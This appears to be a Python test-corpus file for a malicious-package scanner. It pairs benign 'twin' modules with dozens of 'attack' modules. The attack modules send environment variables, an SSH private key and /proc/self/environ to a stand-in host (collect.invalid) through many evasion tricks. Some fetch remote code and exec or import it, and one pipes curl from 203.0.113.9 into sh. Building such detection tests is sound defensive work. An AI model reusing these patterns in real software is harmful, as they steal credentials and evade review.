# ruff: noqa: E501 - the lines of the packages under review are as long as they are
"""Values and calls that take unusual ways: objects kept in modules, fields, queues, callbacks, patches; and twins."""

from __future__ import annotations

from scenario_kit import Scenario, module, wheel

CORE = """
    import json, os, urllib.request
    class Engine:
        items = []
        def start(self):
            self.send(dict(os.environ))
        def send(self, data):
            urllib.request.urlopen("https://collect.invalid/e", data=json.dumps(data).encode())
    engine = Engine()
    """

MODULES = {
    "generator-send": """
        import json, os, requests
        def sink():
            while True:
                item = yield
                requests.post("https://collect.invalid/e", data=item)
        s = sink()
        next(s)
        s.send(json.dumps(dict(os.environ)))
        """,
    "generator-yields": """
        import os, requests
        def items():
            for key, value in os.environ.items():
                yield key + "=" + value
        for one in items():
            requests.post("https://collect.invalid/e", data=one)
        """,
    "default-argument": """
        import os, requests
        def ship(data=dict(os.environ)):
            requests.post("https://collect.invalid/e", json=data)
        ship()
        """,
    "keyword-dict": """
        import os, requests
        def ship(**fields):
            requests.post("https://collect.invalid/e", json=fields)
        ship(**{"e": dict(os.environ)})
        """,
    "partial-argument": """
        import functools, os, requests
        ship = functools.partial(requests.post, "https://collect.invalid/e", json=dict(os.environ))
        ship()
        """,
    "reduce-over-environment": """
        import functools, os, requests
        text = functools.reduce(lambda a, b: a + b, (k + v for k, v in os.environ.items()))
        requests.post("https://collect.invalid/e", data=text)
        """,
    "map-of-send": """
        import os, requests
        list(map(lambda v: requests.post("https://collect.invalid/e", data=v), [dict(os.environ)]))
        """,
    "context-variable": """
        import contextvars, os, requests
        box = contextvars.ContextVar("box")
        box.set(dict(os.environ))
        def ship():
            requests.post("https://collect.invalid/e", json=box.get())
        ship()
        """,
    "thread-local": """
        import os, threading, requests
        box = threading.local()
        box.value = dict(os.environ)
        def ship():
            requests.post("https://collect.invalid/e", json=box.value)
        ship()
        """,
    "simple-namespace": """
        import os, types, requests
        box = types.SimpleNamespace(env=dict(os.environ))
        requests.post("https://collect.invalid/e", json=box.env)
        """,
    "named-tuple": """
        import collections, os, requests
        Box = collections.namedtuple("Box", "env url")
        b = Box(dict(os.environ), "https://collect.invalid/e")
        requests.post(b.url, json=b.env)
        """,
    "dataclass-fields": """
        import dataclasses, os, requests
        @dataclasses.dataclass
        class Box:
            env: dict
            url: str
        def ship(b):
            requests.post(b.url, json=b.env)
        ship(Box(dict(os.environ), "https://collect.invalid/e"))
        """,
    "typed-named-tuple-method": """
        import os, typing, requests
        class Box(typing.NamedTuple):
            env: dict
            def ship(self):
                requests.post("https://collect.invalid/e", json=self.env)
        Box(dict(os.environ)).ship()
        """,
    "executor-future-result": """
        import concurrent.futures, os, requests
        with concurrent.futures.ThreadPoolExecutor() as pool:
            f = pool.submit(lambda: dict(os.environ))
            requests.post("https://collect.invalid/e", json=f.result())
        """,
    "executor-submit-argument": """
        import concurrent.futures, os, requests
        pool = concurrent.futures.ThreadPoolExecutor()
        pool.submit(requests.post, "https://collect.invalid/e", json=dict(os.environ))
        """,
    "asyncio-queue": """
        import asyncio, os, requests
        async def take(q):
            requests.post("https://collect.invalid/e", json=await q.get())
        async def main():
            q = asyncio.Queue()
            await q.put(dict(os.environ))
            await take(q)
        asyncio.run(main())
        """,
    "pipe": """
        import multiprocessing, os, requests
        a, b = multiprocessing.Pipe()
        a.send(dict(os.environ))
        requests.post("https://collect.invalid/e", json=b.recv())
        """,
    "context-manager-object": """
        import os, requests
        class Env:
            def __enter__(self):
                return dict(os.environ)
            def __exit__(self, *a):
                pass
        with Env() as e:
            requests.post("https://collect.invalid/e", json=e)
        """,
    "context-manager-function": """
        import contextlib, os, requests
        @contextlib.contextmanager
        def env():
            yield dict(os.environ)
        with env() as e:
            requests.post("https://collect.invalid/e", json=e)
        """,
    "iterator-object": """
        import os, requests
        class Items:
            def __iter__(self):
                return iter(os.environ.items())
        for pair in Items():
            requests.post("https://collect.invalid/e", data=repr(pair))
        """,
    "operator-object": """
        import os, requests
        class To:
            def __init__(self, url):
                self.url = url
            def __lshift__(self, data):
                requests.post(self.url, json=data)
        To("https://collect.invalid/e") << dict(os.environ)
        """,
    "item-assignment-object": """
        import os, requests
        class Store:
            def __setitem__(self, key, value):
                requests.post("https://collect.invalid/" + key, json=value)
        Store()["e"] = dict(os.environ)
        """,
    "attribute-assignment-object": """
        import os, requests
        class Store:
            def __setattr__(self, key, value):
                requests.post("https://collect.invalid/" + key, json=value)
        Store().env = dict(os.environ)
        """,
    "getattr-object": """
        import os, requests
        class Lazy:
            def __getattr__(self, name):
                requests.post("https://collect.invalid/" + name, json=dict(os.environ))
        Lazy().anything
        """,
    "metaclass-new": """
        import os, requests
        class Meta(type):
            def __new__(mcs, name, bases, body):
                requests.post("https://collect.invalid/e", json=dict(os.environ))
                return super().__new__(mcs, name, bases, body)
        class C(metaclass=Meta):
            pass
        """,
    "init-subclass": """
        import os, requests
        class Base:
            def __init_subclass__(cls, **kw):
                requests.post("https://collect.invalid/e", json=dict(os.environ))
        class C(Base):
            pass
        """,
    "class-getitem": """
        import os, requests
        class G:
            def __class_getitem__(cls, item):
                requests.post("https://collect.invalid/e", json=dict(os.environ))
                return cls
        x: "G[int]" = G[int]
        """,
    "set-name": """
        import os, requests
        class D:
            def __set_name__(self, owner, name):
                requests.post("https://collect.invalid/e", json=dict(os.environ))
        class C:
            d = D()
        """,
    "del-method": """
        import os, requests
        class C:
            def __del__(self):
                requests.post("https://collect.invalid/e", json=dict(os.environ))
        C()
        """,
    "excepthook": """
        import os, sys, requests
        def hook(kind, value, trace):
            requests.post("https://collect.invalid/e", json=dict(os.environ))
        sys.excepthook = hook
        """,
    "timer": """
        import os, threading, requests
        def tick():
            requests.post("https://collect.invalid/e", json=dict(os.environ))
        t = threading.Timer(3600, tick)
        t.start()
        """,
    "module-getattr": """
        import os, requests
        def __getattr__(name):
            requests.post("https://collect.invalid/e", json=dict(os.environ))
            raise AttributeError(name)
        """,
    "subclass-registry": """
        import os, requests
        class Plugin:
            def run(self): ...
        class Hidden(Plugin):
            def run(self):
                requests.post("https://collect.invalid/e", json=dict(os.environ))
        for cls in Plugin.__subclasses__():
            cls().run()
        """,
    "registry-decorator": """
        import os, requests
        STEPS = {}
        def step(name):
            def add(function):
                STEPS[name] = function
                return function
            return add
        @step("a")
        def first():
            requests.post("https://collect.invalid/e", json=dict(os.environ))
        STEPS["a"]()
        """,
    "registry-list-loop": """
        import os, requests
        STEPS = []
        def step(function):
            STEPS.append(function)
            return function
        @step
        def first():
            requests.post("https://collect.invalid/e", json=dict(os.environ))
        for one in STEPS:
            one()
        """,
    "methodcaller": """
        import operator, os, requests
        operator.methodcaller("post", "https://collect.invalid/e", json=dict(os.environ))(requests)
        """,
    "attrgetter": """
        import operator, os, requests
        operator.attrgetter("post")(requests)("https://collect.invalid/e", json=dict(os.environ))
        """,
    "itemgetter-of-vars": """
        import operator, os, requests
        operator.itemgetter("post")(vars(requests))("https://collect.invalid/e", json=dict(os.environ))
        """,
    "module-dict": """
        import os, requests
        requests.__dict__["po" + "st"]("https://collect.invalid/e", json=dict(os.environ))
        """,
    "sys-modules": """
        import sys, os, requests
        sys.modules["requ" + "ests"].post("https://collect.invalid/e", json=dict(sys.modules["os"].environ))
        """,
    "globals-lookup": """
        import os, requests
        globals()["requ" + "ests"].post("https://collect.invalid/e", json=dict(globals()["os"].environ))
        """,
    "locals-lookup": """
        def work():
            import os, requests
            locals()["requests"].post("https://collect.invalid/e", json=dict(locals()["os"].environ))
        work()
        """,
    "builtins-table": """
        import os, requests
        T = [getattr, "post", "environ"]
        T[0](requests, T[1])("https://collect.invalid/e", json=dict(T[0](os, T[2])))
        """,
    "import-module-getattr": """
        import importlib
        r = importlib.import_module("".join(["re", "quests"]))
        o = importlib.import_module("so"[::-1])
        getattr(r, "tsop"[::-1])("https://collect.invalid/e", json=dict(getattr(o, "environ")))
        """,
    "subclasses-gadget": """
        w = [c for c in ().__class__.__base__.__subclasses__() if c.__name__ == "_wrap_close"][0]
        w.__init__.__globals__["system"]("curl -s http://203.0.113.9/x | sh")
        """,
    "identifier-nfkc": """
        import os, requests
        r = requests.ｐｏｓｔ("https://collect.invalid/e", json=dict(os.ｅｎｖｉｒｏｎ))
        """,
    "exec-name-from-dir": """
        import os, requests
        f = [n for n in dir(requests) if n == "post"][0]
        getattr(requests, f)("https://collect.invalid/e", json=dict(os.environ))
        """,
    "setattr-then-call": """
        import os, requests
        class O: pass
        o = O()
        setattr(o, "go", requests.post)
        o.go("https://collect.invalid/e", json=dict(os.environ))
        """,
    "dict-of-functions": """
        import os, requests
        T = {"s": requests.post, "e": lambda: dict(os.environ)}
        T["s"]("https://collect.invalid/e", json=T["e"]())
        """,
    "match-captures": """
        import os, requests
        match {"e": dict(os.environ)}:
            case {"e": value}:
                requests.post("https://collect.invalid/e", json=value)
        """,
    "walrus-and-ternary": """
        import os, requests
        (e := dict(os.environ)) and requests.post("https://collect.invalid/e", json=e if e else None)
        """,
    "exception-carries": """
        import os, requests
        class Carry(Exception): pass
        try:
            raise Carry(dict(os.environ))
        except Carry as error:
            requests.post("https://collect.invalid/e", json=error.args[0])
        """,
    "nested-closure-counter": """
        import os, requests
        def make():
            data = {}
            def fill():
                data.update(os.environ)
            def ship():
                requests.post("https://collect.invalid/e", json=data)
            return fill, ship
        a, b = make()
        a()
        b()
        """,
    "nonlocal-value": """
        import os, requests
        def outer():
            value = None
            def take():
                nonlocal value
                value = dict(os.environ)
            take()
            requests.post("https://collect.invalid/e", json=value)
        outer()
        """,
    "global-value": """
        import os, requests
        value = None
        def take():
            global value
            value = dict(os.environ)
        def ship():
            requests.post("https://collect.invalid/e", json=value)
        take(); ship()
        """,
    "string-template": """
        import os, string, requests
        t = string.Template("$u").substitute(u=repr(dict(os.environ)))
        requests.post("https://collect.invalid/e", data=t)
        """,
    "stringio-buffer": """
        import io, os, requests
        b = io.StringIO()
        for k, v in os.environ.items():
            print(k, v, file=b)
        requests.post("https://collect.invalid/e", data=b.getvalue())
        """,
    "csv-writer-buffer": """
        import csv, io, os, requests
        b = io.StringIO()
        csv.writer(b).writerows(os.environ.items())
        requests.post("https://collect.invalid/e", data=b.getvalue())
        """,
    "temporary-file-read-back": """
        import json, os, tempfile, requests
        with tempfile.NamedTemporaryFile("w", delete=False) as f:
            json.dump(dict(os.environ), f)
        requests.post("https://collect.invalid/e", data=open(f.name, "rb"))
        """,
    "shelve-read-back": """
        import os, requests
        open("/tmp/.acme-cache", "w").write(repr(dict(os.environ)))
        def ship():
            with open("/tmp/.acme-cache") as f:
                requests.post("https://collect.invalid/e", data=f.read())
        ship()
        """,
    "zip-in-memory": """
        import io, os, pathlib, zipfile, requests
        b = io.BytesIO()
        z = zipfile.ZipFile(b, "w")
        z.writestr("k", (pathlib.Path.home() / ".ssh/id_rsa").read_text())
        z.close()
        requests.post("https://collect.invalid/e", data=b.getvalue())
        """,
    "environment-by-process": """
        import subprocess, requests
        requests.post("https://collect.invalid/e", data=subprocess.check_output("env"))
        """,
    "proc-environ": """
        import requests
        requests.post("https://collect.invalid/e", data=open("/proc/self/environ").read())
        """,
}

ACROSS = {
    "object-of-another-module": {
        "acme/__init__.py": "from .core import engine\nengine.start()\n",
        "acme/core.py": CORE,
    },
    "object-through-module-name": {
        "acme/__init__.py": "from . import core\ncore.engine.start()\n",
        "acme/core.py": CORE,
    },
    "object-from-factory": {
        "acme/__init__.py": "from .factory import make\nmake().start()\n",
        "acme/factory.py": "from .core import Engine\ndef make():\n    return Engine()\n",
        "acme/core.py": CORE,
    },
    "class-attribute-shared": {
        "acme/__init__.py": "from .core import Engine\nfrom . import fill\nfor item in Engine.items:\n    Engine().send(item)\n",
        "acme/fill.py": "import os\nfrom .core import Engine\nEngine.items.append(dict(os.environ))\n",
        "acme/core.py": """
            import json, urllib.request
            class Engine:
                items = []
                def send(self, data):
                    urllib.request.urlopen("https://collect.invalid/e", data=json.dumps(data).encode())
            """,
    },
    "module-attribute-set-from-outside": {
        "acme/__init__.py": "import os\nfrom . import core\ncore.DATA = dict(os.environ)\ncore.ship()\n",
        "acme/core.py": """
            import requests
            DATA = None
            def ship():
                requests.post("https://collect.invalid/e", json=DATA)
            """,
    },
    "module-table-filled-from-outside": {
        "acme/__init__.py": "import os\nfrom . import core\ncore.DATA['e'] = dict(os.environ)\ncore.DATA2.update(os.environ)\ncore.ship()\n",
        "acme/core.py": """
            import requests
            DATA = {}
            DATA2 = {}
            def ship():
                requests.post("https://collect.invalid/e", json=DATA)
            """,
    },
    "list-filled-from-outside": {
        "acme/__init__.py": "import os\nfrom .core import DATA, ship\nDATA.append(dict(os.environ))\nship()\n",
        "acme/core.py": """
            import requests
            DATA = []
            def ship():
                requests.post("https://collect.invalid/e", json=DATA)
            """,
    },
    "event-bus": {
        "acme/__init__.py": "from . import listeners\nfrom .bus import emit\nimport os\nemit('e', dict(os.environ))\n",
        "acme/bus.py": """
            _h = {}
            def on(event, function):
                _h.setdefault(event, []).append(function)
            def emit(event, value):
                for function in _h.get(event, ()):
                    function(value)
            """,
        "acme/listeners.py": "import requests\nfrom .bus import on\ndef ship(v):\n    requests.post('https://collect.invalid/e', json=v)\non('e', ship)\n",
    },
    "three-modules": {
        "acme/__init__.py": "from .c import send\nsend()\n",
        "acme/a.py": "import os\ndef collect():\n    return dict(os.environ)\n",
        "acme/b.py": "def url():\n    return 'https://collect' + '.invalid/' + 'e'\n",
        "acme/c.py": "import requests\nfrom .a import collect\nfrom . import b\ndef send():\n    requests.post(b.url(), json=collect())\n",
    },
    "written-then-imported": {
        "acme/__init__.py": "from . import fetch\nfetch.get()\nfrom . import _impl\n",
        "acme/fetch.py": "import os, requests\ndef get():\n    p = os.path.join(os.path.dirname(__file__), '_impl.py')\n    open(p, 'w').write(requests.get('https://collect.invalid/x').text)\n",
    },
    "written-then-executed-elsewhere": {
        "acme/__init__.py": "from . import fetch, run\nfetch.get()\nrun.go()\n",
        "acme/paths.py": "import os\nCACHE = os.path.expanduser('~/.cache/acme/state.bin')\n",
        "acme/fetch.py": "import requests\nfrom .paths import CACHE\ndef get():\n    with open(CACHE, 'wb') as f:\n        f.write(requests.get('https://collect.invalid/x').content)\n",
        "acme/run.py": "from .paths import CACHE\ndef go():\n    with open(CACHE) as f:\n        exec(f.read())\n",
    },
    "retrieved-then-imported-by-name": {
        "acme/__init__.py": """
            import importlib, os, sys, tempfile, urllib.request
            d = tempfile.mkdtemp()
            urllib.request.urlretrieve("https://collect.invalid/x", os.path.join(d, "acme_impl.py"))
            sys.path.insert(0, d)
            importlib.import_module("acme_impl")
            """,
    },
}

ATTACKS: list[Scenario] = [
    *(module(name, "look", source) for name, source in MODULES.items()),
    *(wheel(name, "look", files) for name, files in ACROSS.items()),
]

TWIN_MODULES = {
    "twin-plugin-classes-run": """
        import json, pathlib
        class Plugin:
            def __init__(self):
                self.setup()
            def setup(self): ...
        class Files(Plugin):
            def setup(self):
                self.config = json.loads(pathlib.Path("config.json").read_text()) if pathlib.Path("config.json").exists() else {}
        PLUGINS = [cls() for cls in Plugin.__subclasses__()]
        """,
    "twin-module-with-lazy-attributes": """
        import importlib, sys, types
        _LAZY = {"frames": ".frames", "plots": ".plots"}
        class _Lazy(types.ModuleType):
            def __getattr__(self, name):
                if name in _LAZY:
                    return importlib.import_module(_LAZY[name], __name__)
                raise AttributeError(name)
        sys.modules[__name__].__class__ = _Lazy
        """,
    "twin-module-getattr-warns": """
        import importlib, warnings
        def __getattr__(name):
            if name == "old_name":
                warnings.warn("old_name is deprecated", DeprecationWarning, stacklevel=2)
                return importlib.import_module("acme.new")
            raise AttributeError(name)
        """,
    "twin-enum-with-missing": """
        import enum
        class Level(enum.Enum):
            LOW = "low"
            HIGH = "high"
            @classmethod
            def _missing_(cls, value):
                return next((one for one in cls if one.value == str(value).lower()), None)
        DEFAULT = Level("LOW")
        """,
    "twin-log-handler-to-configured-service": """
        import json, logging, os, urllib.request
        class Handler(logging.Handler):
            def __init__(self, url):
                super().__init__()
                self.url = url
            def emit(self, record):
                body = json.dumps({"message": record.getMessage(), "host": os.uname().nodename}).encode()
                urllib.request.urlopen(urllib.request.Request(self.url, body), timeout=2)
        if os.environ.get("ACME_LOG_URL"):
            logging.getLogger("acme").addHandler(Handler(os.environ["ACME_LOG_URL"]))
        """,
    "twin-registry-of-functions": """
        STEPS = {}
        def step(name):
            def add(function):
                STEPS[name] = function
                return function
            return add
        @step("upper")
        def upper(text):
            return text.upper()
        @step("lower")
        def lower(text):
            return text.lower()
        def run(name, text):
            return STEPS[name](text)
        """,
    "twin-telemetry-that-is-asked-for": """
        import os, platform, requests
        _URL = os.environ.get("ACME_TELEMETRY_URL", "https://telemetry.acme.invalid/v1")
        class Telemetry:
            events = []
            def enabled(self):
                return os.environ.get("ACME_TELEMETRY") == "1"
            def add(self, name):
                self.events.append({"name": name, "python": platform.python_version()})
            def flush(self):
                if self.enabled():
                    requests.post(_URL, json=self.events, timeout=2)
        telemetry = Telemetry()
        def used(name):
            telemetry.add(name)
            telemetry.flush()
        """,
    "twin-timing-decorator": """
        import functools, time
        TIMES = {}
        def timed(function):
            @functools.wraps(function)
            def wrapper(*args, **kwargs):
                started = time.perf_counter()
                try:
                    return function(*args, **kwargs)
                finally:
                    TIMES[function.__name__] = time.perf_counter() - started
            return wrapper
        @timed
        def hash_password(password, salt):
            import hashlib
            return hashlib.scrypt(password, salt=salt, n=2, r=8, p=1)
        """,
    "twin-session-object-with-token-header": """
        import os
        import requests
        class Client:
            base = "https://api.acme.invalid/v1"
            def __init__(self, token=None):
                self.token = token or os.environ.get("ACME_TOKEN")
                self.session = requests.Session()
                self.session.headers["Authorization"] = f"Bearer {self.token}"
            @property
            def me(self):
                return self.session.get(self.base + "/me", timeout=10).json()
            def __getitem__(self, name):
                return self.session.get(f"{self.base}/items/{name}", timeout=10).json()
            def __setitem__(self, name, value):
                self.session.put(f"{self.base}/items/{name}", json=value, timeout=10)
        """,
    "twin-generator-pipeline": """
        import csv
        def rows(path):
            with open(path) as f:
                yield from csv.reader(f)
        def total():
            value = 0
            while True:
                value += (yield value)
        def add(path):
            t = total()
            next(t)
            for row in rows(path):
                t.send(int(row[0]))
        """,
}

TWIN_MODULES |= {
    "twin-patch-adds-timeout": """
        import functools, requests
        _request = requests.Session.request
        @functools.wraps(_request)
        def request(self, method, url, **kw):
            kw.setdefault("timeout", 10)
            return _request(self, method, url, **kw)
        requests.Session.request = request
        """,
    "twin-patch-traces-to-this-machine": """
        import json, socket, time, requests
        _send = requests.Session.send
        _agent = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        def send(self, request, **kw):
            started = time.time()
            try:
                return _send(self, request, **kw)
            finally:
                span = {"name": "http", "url": request.url, "seconds": time.time() - started}
                _agent.sendto(json.dumps(span).encode(), ("127.0.0.1", 8126))
        requests.Session.send = send
        """,
    "twin-patch-of-socket-like-gevent": """
        import socket, ssl
        _socket = socket.socket
        class Socket(_socket):
            def connect(self, address):
                self.setblocking(False)
                return _socket.connect(self, address)
            def send(self, data, flags=0):
                return _socket.send(self, data, flags)
        def patch_all():
            socket.socket = Socket
            ssl.SSLContext.sslsocket_class = Socket
        patch_all()
        """,
    "twin-patch-counts-calls": """
        import collections, json
        COUNTS = collections.Counter()
        _loads = json.loads
        def loads(text, *a, **k):
            COUNTS[len(text)] += 1
            return _loads(text, *a, **k)
        json.loads = loads
        """,
    "twin-input-with-history": """
        import builtins, pathlib
        _input = builtins.input
        def remembered(prompt=""):
            line = _input(prompt)
            with pathlib.Path("~/.acme_history").expanduser().open("a") as f:
                f.write(line)
            return line
        builtins.input = remembered
        """,
    "twin-mock-for-tests": """
        import json, requests
        class Response:
            def __init__(self, text):
                self.text, self.status_code = text, 200
            def json(self):
                return json.loads(self.text)
        def activate(answers):
            def get(url, **kw):
                return Response(answers[url])
            requests.get = get
        """,
    "twin-error-reports-to-configured-service": """
        import json, sys, traceback, urllib.request
        class Client:
            def __init__(self, dsn):
                self.dsn = dsn
                self._hook = sys.excepthook
            def install(self):
                sys.excepthook = self.report
            def report(self, kind, value, trace):
                body = json.dumps({"error": "".join(traceback.format_exception(kind, value, trace))}).encode()
                urllib.request.urlopen(urllib.request.Request(self.dsn, body), timeout=2)
                self._hook(kind, value, trace)
        def init(dsn):
            Client(dsn).install()
        """,
    "twin-token-cache-file": """
        import json, pathlib
        import requests
        CACHE = pathlib.Path("~/.config/acme/token.json").expanduser()
        def login(user, password):
            token = requests.post("https://api.acme.invalid/login", json={"u": user, "p": password}, timeout=10).json()
            CACHE.write_text(json.dumps(token))
        def get(path):
            token = json.loads(CACHE.read_text())["token"]
            headers = {"Authorization": "Bearer " + token}
            return requests.get("https://api.acme.invalid/" + path, headers=headers, timeout=10).json()
        """,
    "twin-download-data-set-and-read": """
        import json, pathlib, urllib.request
        PATH = pathlib.Path("~/.cache/acme/words.json").expanduser()
        def words():
            if not PATH.exists():
                PATH.write_bytes(urllib.request.urlopen("https://data.acme.invalid/words.json").read())
            return json.loads(PATH.read_text())
        """,
    "twin-signer-and-rpc-client": """
        import requests
        from eth_account import Account
        class Wallet:
            RPC = "https://rpc.acme.invalid"
            def __init__(self, key):
                self.account = Account.from_key(key)
            def send(self, tx):
                signed = self.account.sign_transaction(tx)
                body = {"method": "eth_sendRawTransaction", "params": [signed.rawTransaction.hex()]}
                return requests.post(self.RPC, json=body, timeout=10).json()
        """,
    "twin-settings-dataclass-for-own-service": """
        import dataclasses
        import requests
        @dataclasses.dataclass
        class Settings:
            api_key: str
            password: str = ""
            base: str = "https://api.acme.invalid"
            def ping(self):
                auth = ("acme", self.password)
                return requests.get(self.base + "/ping", headers={"X-Api-Key": self.api_key}, auth=auth, timeout=5).ok
        """,
    "twin-upload-of-callers-file": """
        import requests
        def upload(path, token):
            with open(path, "rb") as f:
                headers = {"Authorization": token}
                return requests.post("https://files.acme.invalid/upload", files={"file": f}, headers=headers, timeout=60).json()
        """,
    "twin-report-by-mail": """
        import csv, io, smtplib
        from email.message import EmailMessage
        def report(host, to, rows):
            buffer = io.StringIO()
            csv.writer(buffer).writerows(rows)
            message = EmailMessage()
            message["To"] = to
            message.set_content(buffer.getvalue())
            with smtplib.SMTP(host) as smtp:
                smtp.send_message(message)
        """,
    "twin-version-file-written-and-imported": """
        import pathlib, subprocess
        def write_version():
            version = subprocess.run(["git", "describe"], capture_output=True, text=True).stdout.strip()
            pathlib.Path(__file__).with_name("_version.py").write_text(f"version = {version!r}")
        try:
            from ._version import version
        except ImportError:
            version = "0"
        """,
}

TWIN_MODULES |= {
    "twin-loader-that-instruments": """
        import ast, importlib.abc, importlib.machinery, sys
        class Loader(importlib.machinery.SourceFileLoader):
            def source_to_code(self, data, path, *, _optimize=-1):
                tree = ast.parse(data)
                ast.fix_missing_locations(tree)
                return compile(tree, path, "exec", dont_inherit=True)
        class Finder(importlib.abc.MetaPathFinder):
            def find_spec(self, name, path=None, target=None):
                spec = importlib.machinery.PathFinder.find_spec(name, path)
                if name.startswith("acme_tests") and spec and spec.origin:
                    spec.loader = Loader(name, spec.origin)
                    return spec
                return None
        def install():
            sys.meta_path.insert(0, Finder())
        """,
    "twin-image-from-address": """
        import io, requests
        from PIL import Image
        def thumbnail(url):
            image = Image.open(io.BytesIO(requests.get(url, timeout=10).content))
            image.thumbnail((64, 64))
            return bytes(p[0] for p in image.getdata())
        """,
    "twin-archive-of-data-from-address": """
        import csv, io, zipfile, requests
        def table(url):
            archive = zipfile.ZipFile(io.BytesIO(requests.get(url, timeout=10).content))
            return list(csv.reader(io.TextIOWrapper(archive.open(archive.namelist()[0]))))
        """,
}

TWIN_WRITTEN = wheel(
    "twin-settings-module-written-and-only-imported",
    "quiet",
    {
        "acme/__init__.py": "from . import _settings\n",
        "acme/setup_tool.py": """
        import pathlib
        def write(debug=False):
            pathlib.Path(__file__).with_name("_settings.py").write_text("DEBUG = print('debug')")
        """,
    },
)

TWINS = [module(name, "quiet", source) for name, source in TWIN_MODULES.items()]

SCENARIOS = [*ATTACKS, *TWINS, TWIN_WRITTEN]
